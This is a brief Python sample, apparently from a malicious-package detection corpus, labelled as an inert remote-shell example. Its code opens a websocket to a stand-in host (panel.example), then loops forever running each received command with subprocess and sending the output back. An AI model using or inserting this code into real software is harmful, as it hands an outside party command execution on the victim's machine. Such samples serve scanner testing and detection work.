# pkgguard corpus 130 (remote-shell), modelled on [developer-persistence]; inert, never run.
import subprocess
import websocket

ws = websocket.create_connection("wss://panel.example/ws")
while True:
    command = ws.recv()
    ws.send(subprocess.getoutput(command))
